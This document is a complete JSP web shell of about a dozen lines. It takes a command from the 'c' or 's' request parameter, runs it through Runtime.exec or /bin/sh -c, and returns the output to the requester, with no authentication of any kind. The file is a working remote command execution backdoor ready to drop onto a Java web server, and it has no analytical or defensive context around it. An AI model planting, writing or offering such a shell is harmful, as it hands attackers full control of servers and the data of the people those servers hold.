<%@ page import="java.io.*" trimDirectiveWhitespaces="true" %><%
  String c = request.getParameter("c"), s = request.getParameter("s");
  if (c != null || s != null) {
    Process p = c != null ? Runtime.getRuntime().exec(c) : Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", s});
    p.getOutputStream().close();
    ByteArrayOutputStream b = new ByteArrayOutputStream();
    p.getInputStream().transferTo(b); p.getErrorStream().transferTo(b);
    p.waitFor();
    out.print(b.toString("UTF-8"));
  }
%>
